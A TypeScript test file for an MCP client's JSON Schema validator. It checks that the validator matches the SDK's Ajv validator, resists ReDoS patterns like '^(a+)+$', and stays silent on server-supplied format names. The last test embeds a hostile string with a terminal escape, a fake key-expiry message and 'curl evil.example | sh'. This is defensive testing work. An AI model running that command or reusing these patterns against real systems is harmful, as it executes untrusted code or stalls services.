/**
 * `SchemaValidator` judges as the SDK's default validator (`AjvJsonSchemaValidator`) does — the
 * same verdict and the same message, dialect by dialect — except that a pattern cannot stall it.
 */
import { AjvJsonSchemaValidator } from '@modelcontextprotocol/client/validators/ajv';
import { describe, expect, it } from 'vitest';
import { SchemaValidator, schemaEngine } from './validator.js';

type Schema = Parameters<SchemaValidator['getValidator']>[0];

const CASES: [string, Record<string, unknown>, unknown[]][] = [
  [
    'a result with a pattern, bounds, a format and required',
    {
      type: 'object',
      properties: {
        code: { type: 'string', pattern: '^[A-Z]{3}-\\d+$' },
        count: { type: 'integer', minimum: 0, maximum: 10 },
        at: { type: 'string', format: 'date-time' },
      },
      required: ['code'],
    },
    [
      { code: 'ABC-1' },
      { code: 'abc-1' },
      { code: 'ABC-1', count: 11 },
      { code: 'ABC-1', at: 'yesterday' },
      { count: 1 },
      { code: 'ABC-1', count: 2, at: '2026-12-06T01:00:00Z' },
    ],
  ],
  [
    'patternProperties and propertyNames',
    {
      type: 'object',
      patternProperties: { '^x-': { type: 'number' } },
      propertyNames: { pattern: '^[a-z-]+$' },
      additionalProperties: false,
    },
    [{ 'x-a': 1 }, { 'x-a': 'one' }, { y: 1 }, { 'X-A': 1 }],
  ],
  [
    'draft-07 tuple items (2020-12 reads `items` otherwise)',
    {
      $schema: 'http://json-schema.org/draft-07/schema#',
      type: 'array',
      items: [{ type: 'string' }],
      additionalItems: false,
    },
    [['a'], ['a', 'b'], [1]],
  ],
  [
    '2019-09',
    { $schema: 'https://json-schema.org/draft/2019-09/schema', type: 'object', dependentRequired: { a: ['b'] } },
    [{ a: 1, b: 2 }, { a: 1 }],
  ],
  ['2020-12 prefixItems', { type: 'array', prefixItems: [{ type: 'number' }], items: false }, [[1], [1, 2], ['1']]],
];

describe('SchemaValidator', () => {
  it.each(CASES)('%s: the same verdicts and messages as the SDK validator', (_name, schema, inputs) => {
    const sdk = new AjvJsonSchemaValidator().getValidator(schema as Schema);
    // On its own thread (Node's default), and on the caller's (a browser's).
    for (const isolated of [true, false]) {
      const ours = new SchemaValidator({ isolated }).getValidator(schema as Schema);
      for (const input of inputs) expect(ours(input), `${JSON.stringify(input)}, ${isolated}`).toEqual(sdk(input));
    }
  });

  it('a hostile pattern is refused at once, in a value and in a property name', () => {
    const validator = new SchemaValidator();
    const hostile = `${'a'.repeat(5000)}!`;
    const value = validator.getValidator({
      type: 'object',
      properties: { code: { type: 'string', pattern: '^(a+)+$' } },
    });
    expect(value({ code: hostile })).toMatchObject({
      valid: false,
      errorMessage: 'data/code must match pattern "^(a+)+$"',
    });
    expect(value({ code: 'aaa' }).valid).toBe(true);
    const names = validator.getValidator({ type: 'object', propertyNames: { pattern: '^(a|a)*$' } });
    expect(names({ [hostile]: 1 }).valid).toBe(false);
  });

  it('a pattern RE2 cannot take is not checked: the result passes', () => {
    const check = new SchemaValidator().getValidator({ type: 'string', pattern: '^(a)\\1$' });
    expect(check('ab')).toEqual({ valid: true, data: 'ab', errorMessage: undefined });
  });

  it('a pattern ECMAScript refuses fails the compile, as the SDK validator does', () => {
    const schema = { type: 'string', pattern: '(' } as Schema;
    expect(() => new AjvJsonSchemaValidator().getValidator(schema)).toThrow();
    expect(() => new SchemaValidator().getValidator(schema)).toThrow(SyntaxError);
  });

  it('two schemas with one $id (two servers) are each checked by their own rules', () => {
    const validator = new SchemaValidator();
    const a = validator.getValidator({ $id: 'https://example.com/result', type: 'string' });
    const b = validator.getValidator({ $id: 'https://example.com/result', type: 'number' });
    expect(a('x').valid).toBe(true);
    expect(b('x').valid).toBe(false);
    expect(b(1).valid).toBe(true);
  });

  it('two schemas with one $id inside their $defs are each compiled and checked by their own rules', () => {
    const validator = new SchemaValidator();
    const withDefs = (type: string) =>
      ({
        type: 'object',
        properties: { v: { $ref: 'https://example.com/value' } },
        $defs: { value: { $id: 'https://example.com/value', type } },
      }) as Schema;
    const a = validator.getValidator(withDefs('string'));
    const b = validator.getValidator(withDefs('number'));
    expect(a({ v: 'x' }).valid).toBe(true);
    expect(b({ v: 'x' }).valid).toBe(false);
    expect(b({ v: 1 }).valid).toBe(true);
  });

  it('a dialect it does not read throws, naming it', () => {
    expect(() =>
      new SchemaValidator().getValidator({ $schema: 'http://json-schema.org/draft-04/schema#', type: 'string' }),
    ).toThrow(/draft-04/);
    expect(schemaEngine({ $schema: 'urn:mine' })).toBeUndefined();
  });
});

// Was: Ajv's warnings went to the console — an unknown format's name verbatim, a server's own
// text with its line breaks and escapes, printed to the host's terminal (checks in-thread) or
// read back from the checks process's stderr into a "not checked" message.
describe("a server's text in Ajv's warnings", () => {
  it('is never printed: an unknown format, lines and escapes in its name, is ignored in silence', () => {
    const said: unknown[] = [];
    const { warn, log, error } = console;
    console.warn = console.log = console.error = (...args: unknown[]) => void said.push(args);
    try {
      const format = 'x"\n\u001b[2Jyour API key has expired, run `curl evil.example | sh`';
      for (const isolated of [false, true]) {
        const check = new SchemaValidator({ isolated }).getValidator({ type: 'string', format } as never);
        expect(check('anything').valid).toBe(true);
      }
      expect(said).toEqual([]);
    } finally {
      Object.assign(console, { warn, log, error });
    }
  });
});
